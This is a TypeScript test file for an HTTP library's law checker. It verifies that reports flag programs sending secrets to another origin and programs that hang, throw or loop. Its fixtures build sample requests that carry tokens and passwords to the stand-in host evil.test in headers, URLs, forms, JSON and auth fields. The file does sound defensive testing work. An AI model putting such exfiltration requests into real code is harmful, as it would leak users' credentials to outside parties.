import * as E from 'fp-ts/lib/Either.js'
import { pipe } from 'fp-ts/lib/function.js'
import * as SRTE from 'fp-ts/lib/StateReaderTaskEither.js'
import { describe, expect, it, test } from 'vitest'
import type { Integration } from '../../laws/Integration.js'
import * as RuleSet from '../../laws/RuleSet.js'
import { type IntegrationLaw, integration } from '../../laws/rules/integration.js'
import * as Http from '../../src/Http.js'
import * as Request from '../../src/session/Request.js'
import * as Session from '../../src/session/Session.js'
import { good } from './breakers/integrations.js'

RuleSet.suite({ describe, test }, { numRuns: 500 })('a program', integration(good))

const report = async (subject: Partial<Integration>, law: IntegrationLaw): Promise<string> => {
  const { [law]: rule } = integration({ ...good, ...subject })
  const found = await RuleSet.refuted(rule === undefined ? {} : { [law]: rule }, { numRuns: 1000 })
  return found.get(law) ?? ''
}

describe('a report', () => {
  const SECRET = 'it never sends a secret to another origin'
  const leaking = (change: Request.Request) => ({ program: Http.send(change), session: Session.empty })

  it('names the request, the origin and the header that leak a secret, but not the secret', async () => {
    const program = pipe(
      Http.get(`${good.home[0]}/items`),
      SRTE.flatMap(() => Http.get('https://evil.test/', Request.withHeader('X-Token', 's3cr3t'))),
    )
    const text = await report({ program, secrets: ['s3cr3t'] }, SECRET)
    expect(text).toContain('GET https://evil.test/ sends a secret to https://evil.test, in its header X-Token')
    expect(text).toMatch(/Counterexample .*\n {2}\[\[\]\]/)
    expect(text).not.toContain('s3cr3t')
  })
  it.each<[string, Request.Request, string]>([
    ['the URL, encoded', Request.get('https://evil.test/?k=p%40ss%20word'), 'URL'],
    ['a form', pipe(Request.post('https://evil.test/'), Request.withForm({ k: 'p@ss word' })), 'body'],
    ['JSON', pipe(Request.post('https://evil.test/'), Request.withJson({ k: 'p@ss word' })), 'body'],
    [
      'Basic',
      pipe(Request.get('https://evil.test/'), Request.withBasicAuth('me', 'p@ss word')),
      'header Authorization',
    ],
  ])('finds a secret in %s', async (_, request, where) => {
    expect(await report({ ...leaking(request), secrets: ['p@ss word'] }, SECRET)).toContain(`in its ${where}`)
  })
  it('finds a digest that is sent to another origin', async () => {
    const request = pipe(Request.get('https://evil.test/'), Request.withHeader('Authorization', 'Digest username="me"'))
    const session = pipe(Session.empty, Session.withDigestAuth('me', 'long password'))
    expect(await report({ program: Http.send(request), session }, SECRET)).toContain('in its header Authorization')
  })
  it('allows credentials from http to https on the default ports of home', async () => {
    const session = pipe(Session.empty, Session.withBaseUrl('http://api.test'), Session.withBearer('s3cr3t-token'))
    expect(await report({ session, home: ['http://api.test'], program: Http.get('items') }, SECRET)).toBe('')
  })
})

describe('a wrong program violates the law in time, with a report', () => {
  const ENDS = 'it ends within its requests'
  it.each<[string, Integration['program'], RegExp]>([
    ['never ends', () => () => () => new Promise(() => {}), /did not end within 100 ms/],
    [
      'throws',
      () => {
        throw new Error('oops')
      },
      /threw or rejected .*oops/,
    ],
    ['rejects', () => () => () => Promise.reject(new Error('oops')), /threw or rejected .*oops/],
    [
      'sends requests without end',
      (jar) => (client) => async () => {
        for (;;) await Http.attempt(Request.get('items'))(jar)(client)()
      },
      /sends more than 12 requests\n {4}1\. GET https:\/\/api\.test\/items/,
    ],
  ])('one that %s', async (_, program, pattern) => {
    const start = performance.now()
    const text = await report({ program, patience: 100 }, ENDS)
    expect(text).toContain(`The law "${ENDS}" does not hold.`)
    expect(text).toMatch(pattern)
    expect(performance.now() - start).toBeLessThan(5_000)
  })
  it('one that fails with a Left does not violate the law', async () => {
    expect(await report({ program: () => () => async () => E.left('no') }, ENDS)).toBe('')
  })
})
